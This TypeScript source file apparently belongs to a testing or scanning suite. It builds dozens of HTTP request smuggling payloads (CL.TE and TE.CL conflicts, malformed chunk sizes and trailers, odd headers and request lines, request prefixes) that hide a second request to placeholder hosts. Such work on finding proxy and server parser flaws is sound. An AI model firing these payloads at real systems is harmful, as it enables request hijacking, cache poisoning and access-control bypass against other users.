/**
 * Known techniques of request smuggling. Each message consists of an outer request, to `/outer`, and bytes that are a request to
 * `/smuggled` only for a server that finds the end of the outer request in another place than a proxy.
 */
import { head } from '../../support/raw.ts'
import { codings, lengths } from './framing-headers.ts'

/** A title, and the message. Its targets contain the id. */
export type Payload = readonly [title: string, message: (id: string) => string]

const host = 'Host: a.example'

/** The second request. */
export const smuggled = (id: string): string => head(`GET /smuggled?id=${id} HTTP/1.1`, host)

/** The beginning of a second request, whose last header takes up the request line that follows. */
const prefix = (id: string): string => `GET /smuggled?id=${id} HTTP/1.1\r\n${host}\r\nX-Rest: `

const outer = (id: string, ...lines: ReadonlyArray<string>): string =>
  head(`POST /outer?id=${id} HTTP/1.1`, host, ...lines)

/** Formats a chunk that contains a text, and the last chunk. */
const chunks = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`

const chunked = 'Transfer-Encoding: chunked'
const ended = '0\r\n\r\n'

/** `Content-Length` and a variant of `Transfer-Encoding`, one of which a server or a proxy might ignore. */
const contradictions = codings.flatMap(([title, ...lines]): Payload[] => [
  [
    `CL.TE, ${title}`,
    (id) => {
      const body = ended + smuggled(id)
      return outer(id, `Content-Length: ${body.length}`, ...lines) + body
    },
  ],
  [
    `TE.CL, ${title}`,
    (id) => {
      const text = smuggled(id)
      const size = `${text.length.toString(16)}\r\n`
      return outer(id, ...lines, `Content-Length: ${size.length}`) + chunks(text)
    },
  ],
])

/** Variants of `Content-Length`, as a body that contains a request. */
const overflows = lengths.map(([title, ...lines]): Payload => [
  `Content-Length: ${title}`,
  (id) => {
    const text = smuggled(id)
    return outer(id, ...lines.map((line) => line.replaceAll('N', String(text.length)))) + text
  },
])

/** A request with a body that a server might not expect. */
const unexpectedBodies = ['GET', 'HEAD', 'OPTIONS', 'DELETE', 'TRACE', 'PUT', 'CHEESE'].flatMap(
  (method): Payload[] => [
    [
      `CL.0, ${method}`,
      (id) => {
        const text = smuggled(id)
        const length = `Content-Length: ${text.length}`
        return head(`${method} /outer?id=${id} HTTP/1.1`, host, length) + text
      },
    ],
    [
      `TE.0, ${method}`,
      (id) => head(`${method} /outer?id=${id} HTTP/1.1`, host, chunked) + chunks(smuggled(id)),
    ],
  ],
)

const chunkedBody =
  (format: (text: string) => string) =>
  (id: string): string =>
    outer(id, chunked) + format(smuggled(id))

const sizeOf = (text: string): string => text.length.toString(16)

/** Chunk sizes, chunk extensions and trailers. */
const chunkedBodies: ReadonlyArray<Payload> = [
  ['a size above 2^64', chunkedBody((text) => `10000000000000000\r\n${text}`)],
  ['a size of 2^32', chunkedBody((text) => `100000000\r\n\r\n${text}`)],
  ['a size of 2^64 - 1', chunkedBody((text) => `ffffffffffffffff\r\n${text}`)],
  ['a size that wraps around', chunkedBody((text) => `1000000000000000${sizeOf(text)}\r\n${text}`)],
  ['a size with 0x', chunkedBody((text) => `0x${sizeOf(text)}\r\n${text}\r\n${ended}`)],
  ['a size with a sign', chunkedBody((text) => `+${sizeOf(text)}\r\n${text}\r\n${ended}`)],
  ['a negative size', chunkedBody((text) => `-1\r\n${text}\r\n${ended}`)],
  ['a size with an underscore', chunkedBody((text) => `0_0\r\n${text}\r\n${ended}`)],
  ['a size after a space', chunkedBody((text) => ` ${sizeOf(text)}\r\n${text}\r\n${ended}`)],
  ['a size before a space', chunkedBody((text) => `${sizeOf(text)} \r\n${text}\r\n${ended}`)],
  ['a size that is not hexadecimal', chunkedBody((text) => `0g\r\n\r\n${text}`)],
  ['an empty size', chunkedBody((text) => `\r\n\r\n${text}`)],
  ['zeros', chunkedBody((text) => `${'0'.repeat(40)}\r\n\r\n${text}`)],
  ['a size that ends in LF', chunkedBody((text) => `${sizeOf(text)}\n${text}\r\n${ended}`)],
  ['a last chunk that ends in LF', chunkedBody((text) => `0\n\n${text}`)],
  ['a size that ends in CR', chunkedBody((text) => `0\r\r${text}`)],
  ['an extension with LF', chunkedBody((text) => `1;\n${sizeOf(text)}\r\n${text}\r\n${ended}`)],
  ['an extension with CR', chunkedBody((text) => `1;a\r${sizeOf(text)}\r\n${text}\r\n${ended}`)],
  ['a quoted line end', chunkedBody((text) => `1;a="\r\nx\r\n${ended}${text}"\r\nx\r\n${ended}`)],
  ['an extension without a name', chunkedBody((text) => `0;\r\n\r\n${text}`)],
  ['an extension after a space', chunkedBody((text) => `0 ;a=b\r\n\r\n${text}`)],
  ['an extension with NUL', chunkedBody((text) => `0;a\0b\r\n\r\n${text}`)],
  ['an extension of 20 kB', chunkedBody((text) => `0;${'a'.repeat(20_000)}\r\n\r\n${text}`)],
  ['two bytes after the data', chunkedBody((text) => `1\r\nxXX0\r\n\r\n${text}`)],
  ['data that ends in LF', chunkedBody((text) => `1\r\nx\n0\r\n\r\n${text}`)],
  ['data without a line end', chunkedBody((text) => `1\r\nx0\r\n\r\n${text}`)],
  ['a trailer that ends in LF', chunkedBody((text) => `0\r\nA: b\n\r\n${text}`)],
  ['a trailer Content-Length', chunkedBody((text) => `0\r\nContent-Length: 9\r\n\r\n${text}`)],
  ['a trailer Transfer-Encoding', chunkedBody((text) => `0\r\n${chunked}\r\n\r\n${text}`)],
  ['a trailer Host', chunkedBody((text) => `0\r\nHost: b.example\r\n\r\n${text}`)],
  ['a trailer without a colon', chunkedBody((text) => `0\r\nA\r\n\r\n${text}`)],
  ['a request as a trailer', chunkedBody((text) => `0\r\n${text}`)],
]

/** Request lines and headers, before a body that contains a request. */
const heads: ReadonlyArray<Payload> = (
  [
    ['header lines that end in LF', '{line}\nHost: a.example\nContent-Length: N\n\n'],
    ['a head that ends in LF', '{line}\r\nHost: a.example\r\nContent-Length: N\n\r\n'],
    ['header lines that end in CR', '{line}\rHost: a.example\rContent-Length: N\r\r'],
    ['LF in a header', '{line}\r\nHost: a.example\r\nX: a\nContent-Length: N\r\n\r\n'],
    ['CR in a header', '{line}\r\nHost: a.example\r\nX: a\rContent-Length: N\r\n\r\n'],
    ['LF before the head', '\n{line}\r\nHost: a.example\r\nContent-Length: N\r\n\r\n'],
    ['NUL in a name', '{line}\r\nHost: a.example\r\nContent-Length\0: N\r\n\r\n'],
    ['NUL in a value', '{line}\r\nHost: a.example\r\nX: a\0b\r\nContent-Length: N\r\n\r\n'],
    ['a space in a name', '{line}\r\nHost: a.example\r\nContent-Length x: N\r\n\r\n'],
    ['a header without a colon', '{line}\r\nHost: a.example\r\nX\r\nContent-Length: N\r\n\r\n'],
    ['an empty name', '{line}\r\nHost: a.example\r\n: x\r\nContent-Length: N\r\n\r\n'],
    ['a folded header', '{line}\r\nHost: a.example\r\nX: a\r\n Content-Length: N\r\n\r\n'],
    ['a folded first header', '{line}\r\n Host: a.example\r\nContent-Length: N\r\n\r\n'],
    ['two hosts', '{line}\r\nHost: a.example\r\nHost: b.example\r\nContent-Length: N\r\n\r\n'],
    ['a host with a path', '{line}\r\nHost: a.example/b\r\nContent-Length: N\r\n\r\n'],
    ['a host with user information', '{line}\r\nHost: a@b.example\r\nContent-Length: N\r\n\r\n'],
    [
      'another host in the absolute form',
      'POST http://b.example/outer?id={id} HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'an absolute form with user information',
      'POST http://a.example@b.example/outer?id={id} HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'HTTP/1.0 with chunks',
      'POST /outer?id={id} HTTP/1.0\r\nHost: a.example\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n',
    ],
    [
      'HTTP/1.0 with chunks and a length',
      'POST /outer?id={id} HTTP/1.0\r\nHost: a.example\r\nConnection: keep-alive\r\nContent-Length: N\r\nTransfer-Encoding: chunked\r\n\r\n',
    ],
    ['HTTP/1.2', 'POST /outer?id={id} HTTP/1.2\r\nHost: a.example\r\nContent-Length: N\r\n\r\n'],
    ['HTTP/2.0', 'POST /outer?id={id} HTTP/2.0\r\nHost: a.example\r\nContent-Length: N\r\n\r\n'],
    ['http/1.1', 'POST /outer?id={id} http/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n'],
    [
      'HTTP/1.1.1',
      'POST /outer?id={id} HTTP/1.1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    ['HTTP/0.9', 'GET /outer?id={id}\r\n\r\n'],
    [
      'a version in the target',
      'POST /outer?id={id} HTTP/1.1 HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'tabs in the request line',
      'POST\t/outer?id={id}\tHTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'two spaces in the request line',
      'POST  /outer?id={id}  HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'NUL in the method',
      'PO\0ST /outer?id={id} HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'a method in parentheses',
      '(POST) /outer?id={id} HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'a method in lower case',
      'post /outer?id={id} HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    ['CONNECT', 'CONNECT a.example:80 HTTP/1.1\r\nHost: a.example:80\r\nContent-Length: N\r\n\r\n'],
    [
      'an encoded line end in the target',
      'POST /outer?id={id}%20HTTP/1.1%0d%0aX:%20y HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    ['Expect', '{line}\r\nHost: a.example\r\nExpect: 100-continue\r\nContent-Length: N\r\n\r\n'],
    [
      'Expect with GET',
      'GET /outer?id={id} HTTP/1.1\r\nHost: a.example\r\nExpect: 100-continue\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'Expect twice',
      '{line}\r\nHost: a.example\r\nExpect: 100-continue\r\nExpect: 100-continue\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'Expect with a list',
      '{line}\r\nHost: a.example\r\nExpect: x, 100-continue\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'an obfuscated Expect',
      '{line}\r\nHost: a.example\r\nExpect: y 100-continue\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'Expect in HTTP/1.0',
      'POST /outer?id={id} HTTP/1.0\r\nHost: a.example\r\nExpect: 100-continue\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'Connection: Content-Length',
      '{line}\r\nHost: a.example\r\nConnection: Content-Length\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'Connection: Host',
      '{line}\r\nHost: a.example\r\nConnection: Host, keep-alive\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'an upgrade to h2c',
      '{line}\r\nHost: a.example\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'an upgrade to WebSocket',
      '{line}\r\nHost: a.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'an unread body',
      'POST /missing?id={id} HTTP/1.1\r\nHost: a.example\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'a method override',
      '{line}\r\nHost: a.example\r\nX-HTTP-Method-Override: GET\r\nContent-Length: N\r\n\r\n',
    ],
    [
      'an invalid Content-Type',
      '{line}\r\nHost: a.example\r\nContent-Type: ;;\r\nContent-Length: N\r\n\r\n',
    ],
  ] as const
).map(([title, template]) => [
  title,
  (id) => {
    const text = smuggled(id)
    const start = template.replaceAll('{line}', 'POST /outer?id={id} HTTP/1.1')
    return start.replaceAll('{id}', id).replace(/\bN\b/, String(text.length)) + text
  },
])

/** Beginnings of requests, which would take up the next request on the same connection of the proxy. */
const prefixes: ReadonlyArray<Payload> = [
  [
    'CL.0 with the beginning of a request',
    (id) => {
      const text = prefix(id)
      return head(`GET /outer?id=${id} HTTP/1.1`, host, `Content-Length: ${text.length}`) + text
    },
  ],
  [
    'CL.TE with the beginning of a request',
    (id) => {
      const body = ended + prefix(id)
      return outer(id, `Content-Length: ${body.length}`, chunked) + body
    },
  ],
  [
    'TE.CL with the beginning of a request',
    (id) => outer(id, 'Content-Length: 4', chunked) + chunks(prefix(id)),
  ],
  [
    'an unread body with the beginning of a request',
    (id) => {
      const text = prefix(id)
      const length = `Content-Length: ${text.length}`
      return head(`POST /missing?id=${id} HTTP/1.1`, host, length) + text
    },
  ],
]

export const payloads: ReadonlyArray<Payload> = [
  ...contradictions,
  ...overflows,
  ...unexpectedBodies,
  ...chunkedBodies.map(([title, message]): Payload => [`chunks, ${title}`, message]),
  ...heads,
  ...prefixes,
]
